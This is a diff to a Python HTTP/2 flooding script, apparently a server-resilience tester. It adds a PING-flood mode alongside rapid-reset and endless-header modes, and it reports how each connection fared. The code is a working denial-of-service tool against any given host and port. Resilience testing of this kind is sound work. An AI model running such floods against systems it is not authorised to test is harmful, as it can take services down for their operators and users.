@@ -1,15 +1,15 @@
 #!/usr/bin/env python3
 # SPDX-License-Identifier: Apache-2.0
-"""Floods a port with HTTP/2 streams that are reset at once, or with a header without end, without a token, and prints what became of
-each connection.
+"""Floods a port with HTTP/2 streams that are reset at once, with a header without end, or with pings, without a token, and prints what
+became of each connection.
 
-usage: http2_flood.py HOST:PORT CONNECTIONS STREAMS [--tls] [--apart | --header] [--source ADDRESS]
+usage: http2_flood.py HOST:PORT CONNECTIONS STREAMS [--tls] [--apart | --header | --pings] [--source ADDRESS]
 
 Opens CONNECTIONS connections one after another, and tries to send STREAMS streams on each. A reset follows its call at once, or with
 --apart when the call has been processed. With --header, each connection has one stream, whose header has STREAMS continuations of
-16,000 bytes and does not end. Prints, for each connection, how many of them had been sent when the other side closed it, or `all` if it
-did not, or `stalled` if it neither took nor sent anything for 30 s. Ends with status 1 if the first connection cannot be opened; 0 is
-printed for another one.
+16,000 bytes and does not end. With --pings, each connection has STREAMS pings and no stream. Prints, for each connection, how many of
+them had been sent when the other side closed it, or `all` if it did not, or `stalled` if it neither took nor sent anything for 30 s. Ends
+with status 1 if the first connection cannot be opened; 0 is printed for another one.
 """
 import argparse
 import pathlib
@@ -91,13 +91,22 @@ def flood_header(arguments, connection):
         check_open(connection)
 
 
+def flood_pings(arguments, connection):
+    """Yields the number of pings that have been sent, after each batch."""
+    for sent in range(0, arguments.streams, BATCH):
+        connection.sendall(http2.frame(http2.PING, 0, 0, bytes(8)) * BATCH)
+        check_open(connection)
+        yield sent + BATCH
+
+
 def run(arguments, connection):
     """Returns what became of a connection."""
     sent = 0
     try:
         with connection:
             connection.sendall(http2.PREFACE + http2.EMPTY_SETTINGS)
-            for sent in (flood_header if arguments.header else flood)(arguments, connection):
+            attack = flood_header if arguments.header else flood_pings if arguments.pings else flood
+            for sent in attack(arguments, connection):
                 pass
         return "all"
     except TimeoutError:
@@ -113,6 +122,7 @@ def main():
     parser.add_argument("streams", type=int)
     parser.add_argument("--apart", action="store_true")
     parser.add_argument("--header", action="store_true")
+    parser.add_argument("--pings", action="store_true")
     parser.add_argument("--tls", action="store_true")
     parser.add_argument("--source")
     arguments = parser.parse_args()
